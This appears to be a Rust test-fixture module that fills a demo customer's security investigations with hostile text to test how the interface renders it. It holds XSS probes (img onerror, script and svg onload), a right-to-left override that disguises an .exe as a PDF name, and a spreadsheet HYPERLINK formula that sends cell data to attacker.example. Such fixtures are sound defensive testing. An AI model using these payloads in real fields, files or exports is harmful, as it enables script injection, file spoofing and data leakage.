//! Investigations whose text attacks the reader: markup, direction overrides, formulas, lengths, unknown words, nothing.

use super::demo;
use super::random::Random;
use super::story::{self, Outline};
use super::world::{Detail, PlannedCustomer};
use crate::db::region::StoredInvestigation;
use contract::extension::Actor;
use contract::{ActorKind, BadRrn, Disposition, Priority, Source, Status, Timestamp};
use serde_json::json;

/// Markup that runs where text is taken for HTML.
pub const IMAGE: &str = "<img src=x onerror=alert(1)>";
const SCRIPT: &str = "<script>alert('title')</script>\"'><svg/onload=alert(2)>";
/// After the override, `exe.gnp` reads as `png.exe`.
const RTL: &str = "invoice \u{202e}fdp.exe\u{202c} opened \u{2067}مرحبا שלום\u{2069} twice";
const EMOJI: &str = "🔥🚨 Sign-in by 👩🏽‍💻 from 🏴󠁧󠁢󠁳󠁣󠁴󠁿 and 🇳🇴 at once 👨‍👩‍👧‍👦";
const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"Open\")";

/// The hostile investigations; they belong to [`demo::HOSTILE_CUSTOMER`] only.
///
/// # Errors
/// When an id cannot stand in an RRN.
pub fn of(random: &mut Random, customer: &PlannedCustomer, now: Timestamp) -> Result<Vec<StoredInvestigation>, BadRrn> {
    if customer.code != demo::HOSTILE_CUSTOMER {
        return Ok(Vec::new());
    }
    let plain = [
        (demo::HOSTILE_SCRIPT, SCRIPT.to_owned()),
        (demo::HOSTILE_RTL, RTL.to_owned()),
        (demo::HOSTILE_EMOJI, EMOJI.to_owned()),
        (demo::HOSTILE_MARKS, combining()),
        (demo::HOSTILE_LONG, long()),
        (demo::HOSTILE_FORMULA, FORMULA.to_owned()),
    ];
    let mut told = vec![image(random, customer, now)?];
    for ((id, title), minutes) in plain.into_iter().zip(50..) {
        let mut story = story::tell(random, customer, &outline(id, title, minutes), Detail::Full, now)?;
        story.investigation.tags.clear();
        told.push(story);
    }
    told.push(unknown_words(random, customer, now)?);
    told.push(empty(random, customer, now)?);
    Ok(told)
}

fn outline(id: &str, title: String, minutes: i64) -> Outline {
    Outline {
        id: id.to_owned(),
        title: Some(title),
        priority: Priority::Medium,
        status: Status::Open,
        source: Source::Alert,
        assignee: None,
        age: minutes * 60,
        alerts: Some(2),
    }
}

/// Markup in every text that an attacker can reach.
fn image(random: &mut Random, customer: &PlannedCustomer, now: Timestamp) -> Result<StoredInvestigation, BadRrn> {
    let mut drawn = outline(demo::HOSTILE_IMAGE, IMAGE.to_owned(), 24);
    drawn.priority = Priority::High;
    drawn.assignee = Some((format!("Mia {IMAGE}"), demo::MIA.to_owned()));
    drawn.status = Status::Waiting;
    let mut story = story::tell(random, customer, &drawn, Detail::Full, now)?;
    story.investigation.tags = vec![IMAGE.to_owned(), "\u{202e}gat".to_owned()];
    story.investigation.responsibility = Some(IMAGE.to_owned());
    story.actors.push(Actor {
        kind: ActorKind::Other(IMAGE.into()),
        name: format!("{IMAGE}\u{202e}"),
        note: Some(SCRIPT.to_owned()),
        alert_count: 1,
    });
    for stored in &mut story.alerts {
        stored.alert.title = format!("{IMAGE} {}", stored.alert.title);
        stored.alert.category = Some(IMAGE.to_owned());
        stored.alert.detection_rule_rrn = json!({ "rule_name": IMAGE, "rule_rrn": SCRIPT });
        stored.evidence.push(json!({ IMAGE: SCRIPT, "nested": { "list": [RTL, null, 1e300] } }));
    }
    for comment in &mut story.comments {
        comment.body = Some(format!("{SCRIPT}\n{FORMULA}\n{RTL}"));
    }
    Ok(story)
}

/// Words that no list knows; they are kept and shown as they are.
fn unknown_words(
    random: &mut Random,
    customer: &PlannedCustomer,
    now: Timestamp,
) -> Result<StoredInvestigation, BadRrn> {
    let mut drawn = outline(demo::UNKNOWN_WORDS, "Words that no list knows".to_owned(), 90);
    drawn.priority = Priority::Other("UNMAPPED".into());
    drawn.status = Status::Other("ESCALATED".into());
    drawn.source = Source::Other("HONEYPOT".into());
    let mut story = story::tell(random, customer, &drawn, Detail::Full, now)?;
    story.investigation.disposition = Disposition::Other("PENDING_REVIEW".into());
    Ok(story)
}

/// Whatever may be empty or null is.
fn empty(random: &mut Random, customer: &PlannedCustomer, now: Timestamp) -> Result<StoredInvestigation, BadRrn> {
    let mut drawn = outline(demo::EMPTY_EVERYWHERE, String::new(), 120);
    drawn.priority = Priority::Unspecified;
    drawn.source = Source::Manual;
    drawn.alerts = Some(0);
    let mut story = story::tell(random, customer, &drawn, Detail::Lean, now)?;
    story.investigation.tags.clear();
    story.investigation.responsibility = None;
    story.investigation.last_accessed = None;
    story.actors.clear();
    Ok(story)
}

/// Every letter under a stack of marks.
fn combining() -> String {
    let stack =
        |letter: char| std::iter::once(letter).chain(('\u{0300}'..='\u{0314}').cycle().take(24)).collect::<String>();
    "Marks above marks".chars().map(stack).collect()
}

/// 10,000 characters with a place to break only now and then.
fn long() -> String {
    let start = "Ten thousand characters follow: ";
    let rest = "unbreakable".chars().cycle();
    start.chars().chain(rest).take(10_000).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_long_title_is_as_long_as_it_says() {
        assert_eq!(long().chars().count(), 10_000);
        assert!(combining().chars().count() > 300);
    }
}
